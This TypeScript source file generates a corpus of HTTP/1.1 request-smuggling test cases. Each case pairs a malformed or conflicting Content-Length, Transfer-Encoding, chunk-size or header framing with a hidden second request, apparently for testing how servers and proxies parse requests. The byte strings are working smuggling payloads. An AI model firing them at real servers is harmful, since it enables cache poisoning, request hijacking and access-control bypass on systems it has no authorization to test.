/** A request whose framing two servers might read differently, with another request hidden behind it. */
export type SmugglingCase = { name: string; bytes: string; severe: boolean };

const hidden = 'GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n';

/**
 * Framings that split HTTP servers (RFC 9112 sections 6 and 11.2): two lengths, a length against chunks, chunked spelled
 * in many ways, blanks and line ends where they may not be, sizes that overflow, and hidden requests behind each.
 * The severe ones may not reach an upstream at all.
 * @param target of the outer request
 */
export function smugglingCases(target: string): SmugglingCase[] {
  const post = `POST ${target} HTTP/1.1\r\nHost: a\r\n`;
  const chunks = `0\r\n\r\n${hidden}`;
  const cases: SmugglingCase[] = [];
  const add = (name: string, bytes: string, severe = true) => cases.push({ name, bytes, severe });

  for (const coding of [
    'Transfer-Encoding: xchunked',
    'Transfer-Encoding: chunked, identity',
    'Transfer-Encoding: identity, chunked, gzip',
    'Transfer-Encoding: chunked chunked',
    'Transfer-Encoding: "chunked"',
    'Transfer-Encoding: chunked;q=1',
    'Transfer-Encoding:\u000bchunked',
    'Transfer-Encoding: \u0000chunked',
    'Transfer-Encoding : chunked',
    ' Transfer-Encoding: chunked',
    'X: y\r\n Transfer-Encoding: chunked',
    'X: y\nTransfer-Encoding: chunked',
    'X: y\rTransfer-Encoding: chunked',
    'Transfer-Encoding\u0000: chunked',
    'Transfer_Encoding: chunked\r\nTransfer-Encoding: identity',
    'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
    'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
    'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
    'Transfer-Encoding:\r\n chunked',
    'Transfer-Encoding: chunked\r\n\tx',
    'Transfer-\u00e9ncoding: chunked\r\nTransfer-Encoding: cow',
  ]) {
    for (const length of [6, chunks.length]) {
      add(
        `length ${length} and ${JSON.stringify(coding)}`,
        `${post}Content-Length: ${length}\r\n${coding}\r\n\r\n${chunks}`,
      );
      add(
        `${JSON.stringify(coding)} and length ${length}`,
        `${post}${coding}\r\nContent-Length: ${length}\r\n\r\n${chunks}`,
      );
    }
  }
  for (const coding of ['chunked', 'Chunked', 'CHUNKED', '\tchunked', 'chunked ', 'chunked,', ',chunked']) {
    add(
      `length and chunks as ${JSON.stringify(coding)}`,
      `${post}Content-Length: 4\r\nTransfer-Encoding: ${coding}\r\n\r\n${chunks}`,
    );
  }
  for (const [first, second] of [
    ['3', '5'],
    ['5', '5, 6'],
    ['0', String(hidden.length)],
    ['0x5', '5'],
    ['+5', '5'],
    ['-5', '5'],
    ['5 ', '6'],
    ['5;', '5'],
    ['05', '6'],
    ['18446744073709551621', '5'],
    ['5\u0000', '5'],
    ['5e0', '5'],
    ['', '5'],
  ]) {
    add(
      `lengths ${first} and ${second}`,
      `${post}Content-Length: ${first}\r\nContent-Length: ${second}\r\n\r\nabcde${hidden}`,
    );
  }
  for (const length of ['+5', '-1', '0x5', '5,5', '5, 6', '1e1', '99999999999999999999', '\u00b5', '5\u000b']) {
    add(`length ${JSON.stringify(length)}`, `${post}Content-Length: ${length}\r\n\r\nabcde${hidden}`);
  }
  for (const size of [
    '5z',
    '0x5',
    '-5',
    '+5',
    ' 5',
    '5 5',
    'FFFFFFFFFFFFFFFFF5',
    '',
    '\u0000',
    '5\n',
    '5\r',
    '5;a\nb',
    '5;a\rb',
  ]) {
    add(
      `chunk size ${JSON.stringify(size)}`,
      `${post}Transfer-Encoding: chunked\r\n\r\n${size}\r\nabcde\r\n0\r\n\r\n${hidden}`,
      false,
    );
  }
  for (const [name, body] of [
    ['a chunk longer than its size', `3\r\nabcde\r\n${chunks}`],
    ['a chunk shorter than its size', `9\r\nabcde\r\n${chunks}`],
    ['a chunk that ends with a line feed', `5\r\nabcde\n${chunks}`],
    ['a chunk size that ends with a line feed', `5\nabcde\r\n${chunks}`],
    ['a last chunk that ends with line feeds', `0\n\n${hidden}`],
    ['a trailer that is a length', `0\r\nContent-Length: 5\r\n\r\n${hidden}`],
    ['a trailer that is chunked', `0\r\nTransfer-Encoding: chunked\r\n\r\n${hidden}`],
    ['a trailer with a blank before its colon', `0\r\nX : y\r\n\r\n${hidden}`],
  ]) {
    add(name ?? '', `${post}Transfer-Encoding: chunked\r\n\r\n${body}`, false);
  }
  for (const [name, head] of [
    ['a bare carriage return in a header', `${post}X: a\rContent-Length: 5\r\n\r\n`],
    ['a bare line feed in a header', `${post}X: a\nContent-Length: 5\r\n\r\n`],
    ['a folded header', `${post}X: a\r\n Content-Length: 5\r\n\r\n`],
    ['a line feed at the end of the head', `${post}Content-Length: 5\r\n\nabcde`],
    ['a NUL in a name', `${post}Content\u0000-Length: 5\r\n\r\n`],
    ['a header without a colon', `${post}Content-Length\r\n\r\n`],
    ['a header without a name', `${post}: 5\r\n\r\n`],
    ['no host', `POST ${target} HTTP/1.1\r\n\r\n`],
    ['two hosts', `${post}Host: b\r\n\r\n`],
    [
      'HTTP/1.0 and chunks',
      `POST ${target} HTTP/1.0\r\nHost: a\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n`,
    ],
    ['a blank before the request line', ` ${post}Content-Length: 5\r\n\r\n`],
    ['a second target', `GET ${target} /smuggled HTTP/1.1\r\nHost: a\r\n\r\n`],
    ['another version', `POST ${target} HTTP/1.1x\r\nHost: a\r\n\r\n`],
  ]) {
    add(name ?? '', `${head}${hidden}`);
  }
  // Without a version it is a request of HTTP/0.9 (RFC 1945), which has no framing to argue about.
  add('a line feed in the target', `GET ${target}\nX: y HTTP/1.1\r\nHost: a\r\n\r\n${hidden}`, false);
  // What hides behind an ordinary request is a request of this connection, and no body of the outer one.
  add(
    'a GET with a body that is a request',
    `GET ${target} HTTP/1.1\r\nHost: a\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
    false,
  );
  add(
    'an upgrade with a body that is a request',
    `${post}Connection: Upgrade\r\nUpgrade: h2c\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
    false,
  );
  add(
    'an expectation with a body that is a request',
    `${post}Expect: 100-continue\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
    false,
  );
  add(
    'a connection header that names the length',
    `${post}Connection: Content-Length\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
    false,
  );
  add(
    'a connection header that names the host',
    `${post}Connection: Host, close\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
    false,
  );
  return cases;
}
